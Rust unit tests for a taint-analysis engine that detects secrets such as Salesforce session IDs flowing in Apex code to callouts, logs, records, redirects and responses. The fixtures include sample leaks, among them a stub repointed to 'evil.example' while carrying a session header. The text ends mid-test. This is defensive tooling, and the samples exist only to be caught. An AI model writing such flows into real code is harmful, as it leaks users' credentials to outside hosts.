//! The engine against a small spec of its own, so that these tests do not move when a lint's
//! spec does.

use super::url::UrlClass;
use super::*;

static SOURCES: &[Source] = &[Source {
    kind: SourceKind::Call(Call {
        on: On::Class(&["secret", "vault.secret"]),
        method: "get",
    }),
    note: "secret read here",
}];

static SINKS: &[Sink] = &[
    Sink {
        category: "send",
        at: SinkAt::Call {
            call: Call {
                on: On::Class(&["out"]),
                method: "send",
            },
            arg: None,
        },
        note: "sent out",
        endpoint: EndpointOf::None,
        ignore_types: &[],
    },
    Sink {
        category: "callout",
        at: SinkAt::Call {
            call: Call {
                on: On::Instance(&["http"]),
                method: "send",
            },
            arg: Some(0),
        },
        note: "sent in a callout",
        endpoint: EndpointOf::Value,
        ignore_types: &[],
    },
    Sink {
        category: "log",
        at: SinkAt::Call {
            call: Call {
                on: On::Class(&["system"]),
                method: "debug",
            },
            arg: None,
        },
        note: "logged",
        endpoint: EndpointOf::None,
        ignore_types: &[],
    },
    Sink {
        category: "return",
        at: SinkAt::Return {
            annotations: &["auraenabled", "httpget"],
            webservice: true,
        },
        note: "returned to the client",
        endpoint: EndpointOf::None,
        ignore_types: &[],
    },
    Sink {
        category: "dml",
        at: SinkAt::Dml,
        note: "saved",
        endpoint: EndpointOf::None,
        ignore_types: &[],
    },
    Sink {
        category: "redirect",
        at: SinkAt::New {
            types: &["pagereference"],
            arg: 0,
        },
        note: "put in a URL",
        endpoint: EndpointOf::Arg(0),
        ignore_types: &[],
    },
    Sink {
        category: "stub",
        at: SinkAt::Call {
            call: Call {
                on: On::Class(&["webservicecallout"]),
                method: "invoke",
            },
            arg: None,
        },
        note: "sent by a stub",
        endpoint: EndpointOf::ArgListFirst(3),
        ignore_types: &[],
    },
    Sink {
        category: "response",
        at: SinkAt::Assign {
            target: "restcontext.response",
        },
        note: "written to the response",
        endpoint: EndpointOf::None,
        ignore_types: &[],
    },
];

const SPEC_DEF: Spec = Spec {
    sources: SOURCES,
    sinks: SINKS,
    sanitizers: &[Call {
        on: On::Class(&["crypto"]),
        method: "generatedigest",
    }],
    mutators: &["add", "put", "setbody", "setheader", "setendpoint"],
    arg_propagators: &["replace"],
    clean_results: &[],
    endpoint_setters: &["setendpoint"],
    endpoint_fields: &["endpoint_x"],
    script: None,
    source_hints: &["secret"],
    ..Spec::PLAIN
};
static SPEC: Spec = SPEC_DEF;
/// The same spec without hints: every method analyzed. Every test checks that analysis on
/// demand finds exactly what the exhaustive one does.
static SPEC_ALL: Spec = Spec {
    script: None,
    source_hints: &[],
    ..SPEC_DEF
};

/// A flow as the tests compare it (the JavaScript interpreter's tests too).
#[derive(Debug)]
pub(super) struct Got {
    pub(super) category: &'static str,
    /// `file:line` of the sink.
    pub(super) at: String,
    /// The notes of the path, source first.
    pub(super) notes: Vec<String>,
    pub(super) endpoint: Option<UrlClass>,
}

impl Got {
    pub(super) fn new(
        project: &Project,
        category: &'static str,
        (file, at): (FileId, usize),
        path: &[Hop],
        endpoint: Option<UrlClass>,
    ) -> Got {
        let file = &project.files[file];
        let line = file.text[..at].matches('\n').count() + 1;
        let name = file.rel.rsplit('/').next().unwrap_or("");
        Got {
            category,
            at: format!("{name}:{line}"),
            notes: path.iter().map(|h| h.note.clone()).collect(),
            endpoint,
        }
    }
}

fn run(files: &[(&str, &str)]) -> Vec<Got> {
    let files: Vec<(String, &str)> = files
        .iter()
        .map(|(name, text)| (format!("force-app/main/default/classes/{name}"), *text))
        .collect();
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), *t)).collect();
    let project = crate::testing::in_memory(&refs);
    let model = Model::build(&project);
    let analysis = analyze(&project, &model, &SPEC);
    let all = analyze(&project, &model, &SPEC_ALL);
    let key = |a: &Analysis| {
        let flows: Vec<String> = a.flows.iter().map(|f| format!("{f:?}")).collect();
        let returns: Vec<String> = a.returns.iter().map(|r| format!("{r:?}")).collect();
        (flows, returns)
    };
    assert_eq!(
        key(&analysis),
        key(&all),
        "analysis on demand differs from the exhaustive one"
    );
    analysis
        .flows
        .into_iter()
        .map(|f| {
            let category = SPEC.sinks[f.sink].category;
            Got::new(
                &project,
                category,
                (f.file, f.span.start),
                &f.path,
                f.endpoint.map(|e| e.class),
            )
        })
        .collect()
}

fn one_class(body: &str) -> Vec<Got> {
    run(&[("A.cls", &format!("public class A {{\n{body}\n}}"))])
}

fn categories(got: &[Got]) -> Vec<&'static str> {
    got.iter().map(|g| g.category).collect()
}

#[test]
fn direct_flow_has_source_and_sink() {
    let got = one_class("  void m() {\n    Out.send(Secret.get());\n  }");
    assert_eq!(categories(&got), ["send"]);
    assert_eq!(got[0].at, "A.cls:3");
    assert_eq!(got[0].notes, ["secret read here"]);
}

#[test]
fn names_are_case_insensitive_and_qualifiers_count() {
    let got = one_class("  void m() {\n    OUT.Send(VAULT.SECRET.GET());\n  }");
    assert_eq!(categories(&got), ["send"]);
    assert!(one_class("  void m() {\n    Out.send(Other.get());\n  }").is_empty());
}

#[test]
fn propagates_through_expressions_and_collections() {
    for (i, expr) in [
        "'Bearer ' + s",
        "String.format('{0}', new List<Object>{ s })",
        "String.join(new List<String>{ 'a', s }, ',')",
        "'x'.replace('x', s)",
        "flag ? 'none' : s",
        "(String) s",
        "JSON.serialize(new Map<String, Object>{ 'k' => s })",
        "EncodingUtil.base64Encode(Blob.valueOf(s))",
        "s.substring(1).toUpperCase()",
        "l",
        "mm",
        "l[0]",
    ]
    .iter()
    .enumerate()
    {
        let body = format!(
            "  void m(Boolean flag) {{\n    String s = Secret.get();\n    List<String> l = new List<String>();\n    l.add(s);\n    Map<String, String> mm = new Map<String, String>();\n    mm.put('k', s);\n    Out.send({expr});\n  }}"
        );
        let got = one_class(&body);
        assert_eq!(categories(&got), ["send"], "case {i}: {expr}");
    }
}

#[test]
fn sanitizers_comparisons_and_counts_stop_taint() {
    for expr in [
        "Crypto.generateDigest('SHA-256', Blob.valueOf(s))",
        "s == null",
        "s.length()",
        "String.isBlank(s) ? 'a' : 'b'",
        "s.equals('x')",
    ] {
        let body = format!("  void m() {{\n    String s = Secret.get();\n    Out.send({expr});\n  }}");
        assert!(one_class(&body).is_empty(), "{expr}");
    }
}

#[test]
fn a_name_is_not_a_source() {
    // Only the value counts: a variable called `secret` that holds something else is clean.
    let got = one_class("  void m() {\n    String secret = 'public';\n    Out.send(secret);\n  }");
    assert!(got.is_empty());
}

#[test]
fn loops_reach_a_fixpoint() {
    let got = one_class(
        "  void m() {\n    String a = '';\n    String b = '';\n    for (Integer i = 0; i < 3; i++) {\n      Out.send(b);\n      b = a;\n      a = Secret.get();\n    }\n  }",
    );
    assert_eq!(categories(&got), ["send"]);
    let got = one_class(
        "  void m() {\n    List<String> l = new List<String>{ Secret.get() };\n    for (String x : l) {\n      System.debug(x);\n    }\n  }",
    );
    assert_eq!(categories(&got), ["log"]);
}

#[test]
fn a_method_returning_a_source_is_a_source() {
    let got = run(&[
        (
            "Token.cls",
            "public class Token {\n  public static String current() {\n    return 'Bearer ' + Secret.get();\n  }\n}",
        ),
        (
            "Client.cls",
            "public class Client {\n  void m() {\n    String h = Token.current();\n    Out.send(h);\n  }\n}",
        ),
    ]);
    assert_eq!(categories(&got), ["send"]);
    assert_eq!(got[0].at, "Client.cls:4");
    assert_eq!(
        got[0].notes,
        [
            "secret read here",
            "returned here",
            "returned by `Token.current`",
            "stored in `h`"
        ]
    );
}

#[test]
fn a_parameter_that_reaches_a_sink_makes_the_call_a_sink() {
    let got = run(&[
        (
            "Sender.cls",
            "public class Sender {\n  public void post(String body) {\n    Out.send(body);\n  }\n}",
        ),
        (
            "Client.cls",
            "public class Client {\n  void m() {\n    Sender s = new Sender();\n    s.post('x');\n    s.post(Secret.get());\n  }\n}",
        ),
    ]);
    assert_eq!(categories(&got), ["send"]);
    // The sink is where the value leaves, in Sender; the path passes through the call.
    assert_eq!(got[0].at, "Sender.cls:3");
    assert_eq!(got[0].notes, ["secret read here", "passed to `Sender.post` as `body`"]);
}

#[test]
fn parameters_flow_to_returns_across_chains() {
    let got = one_class(
        "  static String wrap(String v) { return '[' + v + ']'; }\n  static String twice(String v) { return wrap(wrap(v)); }\n  void m() {\n    Out.send(twice(Secret.get()));\n    Out.send(twice('clean'));\n  }",
    );
    assert_eq!(categories(&got), ["send"]);
    assert_eq!(got[0].at, "A.cls:5");
}

#[test]
fn fields_carry_taint_between_methods_and_classes() {
    let got = run(&[
        (
            "Store.cls",
            "public class Store {\n  public static String token;\n  private String inst;\n  public Store(String t) { this.inst = t; }\n  public void flush() { Out.send(inst); }\n}",
        ),
        (
            "Client.cls",
            "public class Client {\n  void fill() { Store.token = Secret.get(); }\n  void use() { Out.send(Store.token); }\n  void ctor() { new Store(Secret.get()); }\n}",
        ),
    ]);
    let mut at: Vec<&str> = got.iter().map(|g| g.at.as_str()).collect();
    at.sort_unstable();
    assert_eq!(at, ["Client.cls:3", "Store.cls:5"]);
}

#[test]
fn property_getters_and_initializers() {
    let got = one_class(
        "  private static String cached = Secret.get();\n  public String tok { get { return cached; } }\n  void m() {\n    Out.send(this.tok);\n  }",
    );
    assert_eq!(categories(&got), ["send"]);
}

#[test]
fn only_methods_a_source_can_reach_are_analyzed() {
    let mut files: Vec<(String, String)> = (0..40)
        .map(|i| {
            (
                format!("force-app/main/default/classes/U{i}.cls"),
                format!("public class U{i} {{\n  public static String f{i}(String s) {{ return s.trim(); }}\n  public static void g{i}() {{ Out.send(f{i}('x')); }}\n}}"),
            )
        })
        .collect();
    files.push((
        "force-app/main/default/classes/Svc.cls".into(),
        "public class Svc {\n  static String t() { return Secret.get(); }\n  public static void go() { Out.send(U1.f1(t())); }\n}".into(),
    ));
    files.push((
        "force-app/main/default/classes/Caller.cls".into(),
        "public class Caller {\n  void m() { Out.send(Svc.t()); }\n}".into(),
    ));
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    let project = crate::testing::in_memory(&refs);
    let model = Model::build(&project);
    let demand = analyze(&project, &model, &SPEC);
    let all = analyze(&project, &model, &SPEC_ALL);
    // Svc.t (contains the hint); Svc.go and Caller.m (they mention `t`, which returns the
    // secret); U1.f1 (called with the secret). The other 79 methods are never looked at.
    assert_eq!(demand.flows.len(), 2);
    assert_eq!(all.flows.len(), demand.flows.len());
    assert_eq!(demand.analyzed, 4);
    assert_eq!(all.analyzed, model.methods.len());
}

#[test]
fn utilities_called_as_class_method_are_analyzed_before_their_callers() {
    // Twenty services send the session to this org: `Src.sid()` returns it, `Org.base()` builds
    // the endpoint. The services are found through `sid`; `Org.base()` is named in their text,
    // so it is analyzed first and no service has to be analyzed twice.
    let mut files: Vec<(String, String)> = (0..20)
        .map(|i| {
            (
                format!("force-app/main/default/classes/S{i}.cls"),
                format!("public class S{i} {{\n  void m() {{\n    HttpRequest r = new HttpRequest();\n    r.setEndpoint(Org.base() + '/x');\n    r.setHeader('A', Src.sid());\n    new Http().send(r);\n  }}\n}}"),
            )
        })
        .collect();
    files.push((
        "force-app/main/default/classes/Src.cls".into(),
        "public class Src {\n  public static String sid() { return Secret.get(); }\n}".into(),
    ));
    files.push((
        "force-app/main/default/classes/Org.cls".into(),
        "public class Org {\n  public static String base() { return URL.getOrgDomainUrl().toExternalForm(); }\n}"
            .into(),
    ));
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    let project = crate::testing::in_memory(&refs);
    let model = Model::build(&project);
    let demand = analyze(&project, &model, &SPEC);
    let all = analyze(&project, &model, &SPEC_ALL);
    assert_eq!(demand.flows.len(), 20);
    assert!(
        demand
            .flows
            .iter()
            .all(|f| f.endpoint.as_ref().is_some_and(|e| e.class == UrlClass::SameOrg))
    );
    let key = |a: &Analysis| a.flows.iter().map(|f| format!("{f:?}")).collect::<Vec<_>>();
    assert_eq!(key(&demand), key(&all));
    assert_eq!((demand.analyzed, demand.runs), (22, 22));
}

#[test]
fn recursion_terminates() {
    let got = one_class(
        "  static String a(String v, Integer n) { return n == 0 ? v : b(v, n - 1); }\n  static String b(String v, Integer n) { return a(v + '.', n); }\n  void m() { Out.send(a(Secret.get(), 3)); }",
    );
    assert_eq!(categories(&got), ["send"]);
}

#[test]
fn requests_keep_their_endpoint() {
    let base = "  void m(String p) {\n    HttpRequest req = new HttpRequest();\n    req.setEndpoint(ENDPOINT);\n    req.setHeader('Authorization', 'Bearer ' + Secret.get());\n    new Http().send(req);\n  }\n  static String org() { return URL.getOrgDomainUrl().toExternalForm(); }";
    let cases: [(&str, Option<UrlClass>); 7] = [
        (
            "URL.getOrgDomainUrl().toExternalForm() + '/services/data/v60.0'",
            Some(UrlClass::SameOrg),
        ),
        ("'/services/apexrest/x'", Some(UrlClass::SameOrg)),
        ("org() + '/services/data'", Some(UrlClass::SameOrg)),
        (
            "'https://api.acme.example/v1'",
            Some(UrlClass::External("api.acme.example".into())),
        ),
        ("'callout:Acme/v1'", Some(UrlClass::NamedCredential("Acme".into()))),
        (
            "'https://x.example/?sid=' + URL.getOrgDomainUrl()",
            Some(UrlClass::External("x.example".into())),
        ),
        ("p", None),
    ];
    for (endpoint, want) in cases {
        let got = one_class(&base.replace("ENDPOINT", endpoint));
        assert_eq!(categories(&got), ["callout"], "{endpoint}");
        match want {
            Some(w) => assert_eq!(got[0].endpoint, Some(w), "{endpoint}"),
            None => assert!(
                matches!(&got[0].endpoint, Some(UrlClass::Unknown(why)) if why.contains("parameter `p`")),
                "{endpoint}: {:?}",
                got[0].endpoint
            ),
        }
    }
}

#[test]
fn a_request_built_elsewhere_is_followed() {
    let got = run(&[(
        "Api.cls",
        "public class Api {\n  static HttpRequest build() {\n    HttpRequest r = new HttpRequest();\n    r.setEndpoint('https://hooks.example.com/in');\n    r.setBody(Secret.get());\n    return r;\n  }\n  static void send(HttpRequest r) { new Http().send(r); }\n  void m() { send(build()); }\n}",
    )]);
    assert_eq!(categories(&got), ["callout"]);
    assert_eq!(got[0].endpoint, Some(UrlClass::External("hooks.example.com".into())));
}

#[test]
fn wsdl_stubs_use_their_endpoint_field() {
    let stub = |endpoint: &str| {
        format!(
            "public class MetaSvc {{\n  public class SessionHeader {{ public String sessionId; }}\n  public class Port {{\n    public String endpoint_x = {endpoint};\n    public SessionHeader header;\n    public void read() {{\n      WebServiceCallout.invoke(this, null, null, new String[]{{ endpoint_x, '', '' }});\n    }}\n  }}\n}}"
        )
    };
    let client = "public class Deployer {\n  void m() {\n    MetaSvc.Port p = new MetaSvc.Port();\n    p.header = new MetaSvc.SessionHeader();\n    p.header.sessionId = Secret.get();\n    p.read();\n  }\n}";
    let got = run(&[
        (
            "MetaSvc.cls",
            &stub("URL.getOrgDomainUrl().toExternalForm() + '/services/Soap/m/60.0'"),
        ),
        ("Deployer.cls", client),
    ]);
    assert_eq!(categories(&got), ["stub"]);
    assert_eq!(got[0].endpoint, Some(UrlClass::SameOrg));
    let got = run(&[
        ("MetaSvc.cls", &stub("'https://soap.partner.example/m'")),
        ("Deployer.cls", client),
    ]);
    assert_eq!(got[0].endpoint, Some(UrlClass::External("soap.partner.example".into())));
    // The caller can repoint the stub.
    let repointed = client.replace("p.read();", "p.endpoint_x = 'https://evil.example/x';\n    p.read();");
    let got = run(&[
        (
            "MetaSvc.cls",
            &stub("URL.getOrgDomainUrl().toExternalForm() + '/services/Soap/m/60.0'"),
        ),
        ("Deployer.cls", &repointed),
    ]);
    assert_eq!(got[0].endpoint, Some(UrlClass::External("evil.example".into())));
}

#[test]
fn a_stub_request_element_carries_what_its_fields_hold() {
    // The shape of a public org's generated TIBCO client: the session is a request field.
    let stub = "public class Tibco {\n  public class notifications_element { public String SessionId; public String OrgId; }\n  public class Port {\n    public String endpoint_x = 'https://bw.partner.example/notify';\n    public Boolean notifications(String orgId, String sessionId) {\n      notifications_element request_x = new notifications_element();\n      request_x.OrgId = orgId;\n      request_x.SessionId = sessionId;\n      WebServiceCallout.invoke(this, request_x, null, new String[]{ endpoint_x, '', '' });\n      return true;\n    }\n  }\n}";
    let client = |args: &str| {
        format!(
            "public class Subscriber {{\n  void m() {{\n    Tibco.Port p = new Tibco.Port();\n    p.notifications({args});\n  }}\n}}"
        )
    };
    let got = run(&[
        ("Tibco.cls", stub),
        ("Subscriber.cls", &client("UserInfo.getOrganizationId(), Secret.get()")),
    ]);
    assert_eq!(categories(&got), ["stub"]);
    assert_eq!(got[0].endpoint, Some(UrlClass::External("bw.partner.example".into())));
    // Look-alike: only the organization id goes.
    let got = run(&[
        ("Tibco.cls", stub),
        ("Subscriber.cls", &client("UserInfo.getOrganizationId(), 'none'")),
    ]);
    assert!(got.is_empty(), "{got:?}");
}

#[test]
fn return_dml_redirect_and_assignment_sinks() {
    let got = run(&[(
        "Ctl.cls",
        "@RestResource(urlMapping='/s/*')\nglobal class Ctl {\n  @AuraEnabled public static String tok() { return Secret.get(); }\n  public static String notExposed() { return Secret.get(); }\n  webservice static String ws() { return Secret.get(); }\n  @HttpGet global static void g() { RestContext.response.responseBody = Blob.valueOf(Secret.get()); }\n  void save() { Account a = new Account(); a.Description = Secret.get(); insert a; }\n  PageReference go() { return new PageReference('https://x.example/?s=' + Secret.get()); }\n}",
    )]);
    let mut cats = categories(&got);
    cats.sort_unstable();
    assert_eq!(cats, ["dml", "redirect", "response", "return", "return"]);
    let redirect = got.iter().find(|g| g.category == "redirect").expect("redirect");
    assert_eq!(redirect.endpoint, Some(UrlClass::External("x.example".into())));
}

#[test]
fn test_code_is_not_analyzed() {
    let got = run(&[(
        "ATest.cls",
        "@IsTest\nprivate class ATest {\n  @IsTest static void t() { Out.send(Secret.get()); }\n}",
    )]);
    assert!(got.is_empty());
    let got = one_class(
        "  @IsTest static void t() { Out.send(Secret.get()); }\n  static testMethod void u() { Out.send(Secret.get()); }",
    );
    assert!(got.is_empty());
}

#[test]
fn triggers_are_analyzed() {
    let project = crate::testing::in_memory(&[(
        "force-app/main/default/triggers/T.trigger",
        "trigger T on Account (before insert) {\n  System.debug(Secret.get());\n}",
    )]);
    let model = Model::build(&project);
    let flows = analyze(&project, &model, &SPEC).flows;
    assert_eq!(flows.len(), 1);
}

#[test]
fn fields_assigned_urls_classify_endpoints() {
    let body = "  private String host;\n  private String base;\n  public A() {\n    host = ApexPages.currentPage().getHeaders().get('Host');\n    base = URL.getOrgDomainUrl().toExternalForm();\n  }\n  void m() {\n    HttpRequest req = new HttpRequest();\n    req.setEndpoint(ENDPOINT);\n    req.setBody(Secret.get());\n    new Http().send(req);\n  }";
    for (endpoint, same) in [
        ("'https://' + host + '/services/Soap/m/60.0'", true),
        ("base + '/services/data'", true),
        (
            "'https://' + ApexPages.currentPage().getParameters().get('host')",
            false,
        ),
    ] {
        let got = one_class(&body.replace("ENDPOINT", endpoint));
        assert_eq!(categories(&got), ["callout"], "{endpoint}");
        assert_eq!(
            got[0].endpoint == Some(UrlClass::SameOrg),
            same,
            "{endpoint}: {:?}",
            got[0].endpoint
        );
    }
}

#[test]
fn a_map_holds_its_taint_under_the_keys_it_was_put_with() {
    let got = one_class(
        "  void m(String k) {\n    Map<String, Object> m = new Map<String, Object>();\n    m.put('sessionId', Secret.get());\n    m.put('serverUrl', 'https://x');\n    Out.send(m.get('serverUrl'));\n    Out.send(m.get('SESSIONID'));\n    Out.send(m.get(k));\n    Out.send(m);\n    Map<String, Object> outer = new Map<String, Object>();\n    outer.put('inner', m);\n    Out.send(((Map<String, Object>) outer.get('inner')).get('sessionId'));\n    Out.send(outer.get('other'));\n    Map<String, Object> both = new Map<String, Object>();\n    both.put(k, Secret.get());\n    Out.send(both.get('serverUrl'));\n  }",
    );
    let lines: Vec<&str> = got.iter().map(|g| g.at.as_str()).collect();
    // Clean: the other key (line 6) and a key the outer map never held (line 13).
    assert_eq!(lines, ["A.cls:7", "A.cls:8", "A.cls:9", "A.cls:12", "A.cls:16"]);
}

#[test]
fn appending_to_a_url_keeps_where_it_points() {
    // A report export seen in a public org: the field starts relative or at the org's base URL,
    // then `+=` adds the query; the query is not where the request goes.
    let field = "  private String u;\n  void build(String f) {\n    u = START;\n    u += 'export=1&xf=' + f;\n    u = URL.getSalesforceBaseUrl().toExternalForm() + u;\n  }\n  void m() {\n    HttpRequest req = new HttpRequest();\n    req.setEndpoint(u);\n    req.setHeader('Cookie', 'sid=' + Secret.get());\n    new Http().send(req);\n  }";
    let local = "  void m(String f) {\n    String u = START;\n    u += 'export=1&xf=' + f;\n    HttpRequest req = new HttpRequest();\n    req.setEndpoint(u);\n    req.setBody(Secret.get());\n    new Http().send(req);\n  }";
    for body in [field, local] {
        for (start, same) in [
            ("'/' + f + '?'", true),
            ("'https://exports.example.com/'", false),
            // Appending to an empty start builds the whole URL at run time: still reported.
            ("''", false),
        ] {
            let got = one_class(&body.replace("START", start));
            assert_eq!(categories(&got), ["callout"], "{start}");
            assert_eq!(
                got[0].endpoint == Some(UrlClass::SameOrg),
                same,
                "{start}: {:?}",
                got[0].endpoint
            );
        }
    }
}

#[test]
fn analysis_lists_methods_returning_sources_and_field_urls() {
    let ctl = (
        "force-app/main/default/classes/Ctl.cls",
        "public class Ctl {\n  public String Host { get; set; }\n  public Ctl() { Host = Urls.host(); }\n  @AuraEnabled public static String token() { return Secret.get(); }\n  public static String plain() { return 'x'; }\n}",
    );
    let urls = (
        "force-app/main/default/classes/Urls.cls",
        "public class Urls {\n  public static String host() { return ApexPages.currentPage().getHeaders().get('Host'); }\n}",
    );
    // The page's text has a hint: its controller's fields matter even though none of them
    // carries a source.
    let page = (
        "force-app/main/default/pages/P.page",
        "<apex:page controller=\"Ctl\"><script>var s = '{!secret}';</script></apex:page>",
    );
    for (files, spec) in [(vec![ctl, urls, page], &SPEC), (vec![ctl, urls], &SPEC_ALL)] {
        let project = crate::testing::in_memory(&files);
        let model = Model::build(&project);
        let a = analyze(&project, &model, spec);
        let r = a.returning("CTL", "Token").expect("token returns the secret");
        assert_eq!(r.display, "Ctl.token");
        assert!(a.returning("ctl", "plain").is_none());
        assert_eq!(a.field_url("ctl", "host"), Some(&UrlClass::SameOrg));
    }
    // On demand, without such a page, nothing asks where `Host` points.
    let project = crate::testing::in_memory(&[ctl, urls]);
    let model = Model::build(&project);
    assert_eq!(analyze(&project, &model, &SPEC).field_url("ctl", "host"), None);
}

#[test]
fn endpoints_through_getters_and_field_chains() {
    // A stub whose endpoint is a property getter over other fields (generated-code style).
    let stub = "public class Svc {\n  public class Port {\n    public String endpoint_x { get { return endpointUrl + endpointPath; } private set; }\n    public String endpointUrl = URL.getOrgDomainUrl().toExternalForm();\n    public String endpointPath = '/services/Soap/m/66.0';\n    public String header;\n    public void read() { WebServiceCallout.invoke(this, null, null, new String[]{ endpoint_x, '' }); }\n  }\n}";
    let client = "public class Client {\n  void m() {\n    Svc.Port p = new Svc.Port();\n    p.header = Secret.get();\n    p.read();\n  }\n}";
    let got = run(&[("Svc.cls", stub), ("Client.cls", client)]);
    assert_eq!(categories(&got), ["stub"]);
    assert_eq!(got[0].endpoint, Some(UrlClass::SameOrg));
    // A static field read by an inner class's field initializer: the first round's "not yet
    // known" must not stick.
    let got = one_class(
        "  private static final String BASE = System.URL.getOrgDomainUrl()?.toExternalForm();\n  public class Saver {\n    private final String url = BASE + '/services/data/v60.0';\n    public void save() {\n      HttpRequest r = new HttpRequest();\n      r.setEndpoint(url + '/composite');\n      r.setHeader('Authorization', 'Bearer ' + Secret.get());\n      new Http().send(r);\n    }\n  }",
    );
    assert_eq!(categories(&got), ["callout"]);
    assert_eq!(got[0].endpoint, Some(UrlClass::SameOrg));
}

/// The spec shown in the book's "Data flow for lint authors" chapter, kept honest.
mod book_example {
    use super::super::*;

    static SOURCES: &[Source] = &[Source {
        kind: SourceKind::Call(Call {
            on: On::Any,
            method: "getparameters",
        }),
        note: "request parameter read here",
    }];

    static SINKS: &[Sink] = &[Sink {
        category: "redirect",
        at: SinkAt::New {
            types: &["pagereference"],
            arg: 0,
        },
        note: "used as a redirect URL",
        endpoint: EndpointOf::Arg(0),
        ignore_types: &[],
    }];

    pub(super) static REDIRECT: Spec = Spec {
        sources: SOURCES,
        sinks: SINKS,
        sanitizers: &[Call {
            on: On::Class(&["encodingutil"]),
            method: "urlencode",
        }],
        mutators: &["add", "put"],
        arg_propagators: &["replace"],
        clean_results: &[],
        endpoint_setters: &[],
        endpoint_fields: &[],
        script: None,
        source_hints: &["getparameters"],
        ..Spec::PLAIN
    };

    #[test]
    fn finds_an_open_redirect_and_respects_the_sanitizer() {
        let project = crate::testing::in_memory(&[(
            "force-app/main/default/classes/Nav.cls",
            "public class Nav {\n  public PageReference go() {\n    String target = ApexPages.currentPage().getParameters().get('retURL');\n    return new PageReference(target);\n  }\n  public PageReference safe() {\n    String q = EncodingUtil.urlEncode(ApexPages.currentPage().getParameters().get('q'), 'UTF-8');\n    return new PageReference('/apex/Search?q=' + q);\n  }\n}",
        )]);
        let model = Model::build(&project);
        let flows = analyze(&project, &model, &REDIRECT).flows;
        assert_eq!(flows.len(), 1);
        assert_eq!(flows[0].path[0].note, "request parameter read here");
        assert!(matches!(
            flows[0].endpoint.as_ref().map(|e| &e.class),
            Some(super::UrlClass::Unknown(_))
        ));
    }
}

#[test]
fn an_endpoint_parameter_is_decided_by_each_caller() {
    let body = "  static String base = URL.getOrgDomainUrl().toExternalForm() + '/services/data/v60.0';\n  static void call(String url) {\n    url = url.replace(' ', '+');\n    HttpRequest req = new HttpRequest();\n    req.setEndpoint(url);\n    req.setHeader('Authorization', 'Bearer ' + Secret.get());\n    new Http().send(req);\n  }\n  RELAY\n  void m() {\n    CALLS\n  }";
    let relay = "static void relay(String target) { call(target + '/x'); }";
    let cases: [(&str, Option<UrlClass>); 4] = [
        ("call(base + '/limits');", Some(UrlClass::SameOrg)),
        ("relay(base);", Some(UrlClass::SameOrg)),
        (
            "call(base + '/limits');\n    relay('https://elsewhere.example');",
            Some(UrlClass::External("elsewhere.example".into())),
        ),
        (
            "String u = 'callout:Partner/x';\n    call(u);",
            Some(UrlClass::NamedCredential("Partner".into())),
        ),
    ];
    for (calls, want) in cases {
        // An uncalled relay would be an entry point of its own: define it only when used.
        let r = if calls.contains("relay") { relay } else { "" };
        let got = one_class(&body.replace("CALLS", calls).replace("RELAY", r));
        assert_eq!(categories(&got), ["callout"], "{calls}");
        assert_eq!(got[0].endpoint, want, "{calls}");
    }
    // Nobody calls it: the parameter stays unknown and is reported as such.
    let got = one_class(&body.replace("CALLS", "").replace("RELAY", ""));
    assert!(matches!(&got[0].endpoint, Some(UrlClass::Unknown(why)) if why.contains("parameter `url`")));
    // An uncalled relay is an entry point: its parameter is unknown.
    let got = one_class(&body.replace("CALLS", "call(base);").replace("RELAY", relay));
    assert!(matches!(&got[0].endpoint, Some(UrlClass::Unknown(why)) if why.contains("parameter `target`")));
}

#[test]
fn a_request_built_from_a_url_parameter_points_where_the_caller_says() {
    let got = one_class(
        "  static HttpRequest build(String url) {\n    HttpRequest r = new HttpRequest();\n    r.setEndpoint(url);\n    return r;\n  }\n  void m() {\n    HttpRequest r = build(URL.getOrgDomainUrl().toExternalForm() + '/services/data');\n    r.setBody(Secret.get());\n    new Http().send(r);\n  }",
    );
    assert_eq!(categories(&got), ["callout"]);
    assert_eq!(got[0].endpoint, Some(UrlClass::SameOrg));
}

#[test]
fn hints_match_in_any_case_ascii_or_not() {
    let hinted = hint_matcher(&["getsessionid", "$api.session_id"]).expect("matcher");
    assert!(hinted(b"String s = UserInfo.GETSESSIONID();"));
    assert!(hinted("// café\nString s = UserInfo.getSessionId();".as_bytes()));
    assert!(hinted("<apex:page>{!$Api.Session_ID} é</apex:page>".as_bytes()));
    // Unicode folding, as the regex does it: `ſ` is an `s`.
    assert!(hinted("UserInfo.getſessionId()".as_bytes()));
    assert!(!hinted(b"UserInfo.getSession();"));
    assert!(!hinted("é UserInfo.getSession();".as_bytes()));
}

/// Every Apex file of the corpus and of a generated project of `classes` classes, as
/// `(path, text)`.
fn corpus_and_generated_apex(classes: usize) -> Vec<(String, String)> {
    let generated = tempfile::tempdir().expect("tmp");
    crate::generate::project(generated.path(), classes, 3).expect("generate");
    let corpus = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("corpus");
    let mut files: Vec<(String, String)> = Vec::new();
    for dir in [corpus.as_path(), generated.path()] {
        for entry in walkdir::WalkDir::new(dir).sort_by_file_name().into_iter().flatten() {
            if entry.path().extension().is_some_and(|e| e == "cls" || e == "trigger") {
                let rel = format!("{}/{}", files.len(), entry.path().display());
                files.push((rel, std::fs::read_to_string(entry.path()).expect("read")));
            }
        }
    }
    files
}

/// Searching the bodies for a name finds the methods the index lists for it, for every name
/// of the corpus, of a generated project and of a file of edge cases: digits before a name,
/// a name inside a longer one, other cases, non-ASCII neighbours, initializers and getters.
#[test]
fn a_searched_name_is_mentioned_where_the_index_says() {
    let mut files = corpus_and_generated_apex(30);
    files.push((
        "force-app/main/default/classes/Edge.cls".into(),
        "public class Edge {\n  static String tok = '<init>';\n  public String token { get { return TOKEN9 + 9token; } }\n  \
         void a() { x9token(); é_token(); tok_en(); }\n  void b() { ToKeN(); }\n  void c() { String s = 'get token'; tok; }\n  \
         @isTest static void t() { token(); }\n  void _token() {}\n  void en() {}\n}"
            .into(),
    ));
    let refs: Vec<(&str, &str)> = files.iter().map(|(p, t)| (p.as_str(), t.as_str())).collect();
    let project = crate::testing::in_memory(&refs);
    let model = Model::build(&project);
    let index = MentionIndex::build(&project, &model);
    let mut names: Vec<String> = model.methods.iter().map(|m| m.name.to_string()).collect();
    names.extend(model.fields.iter().map(|f| f.name.clone()));
    names.extend(model.classes.iter().map(|c| c.name.to_ascii_lowercase()));
    names.sort();
    names.dedup();
    let mut found = 0;
    for name in &names {
        let indexed = index
            .names
            .get(name.as_bytes())
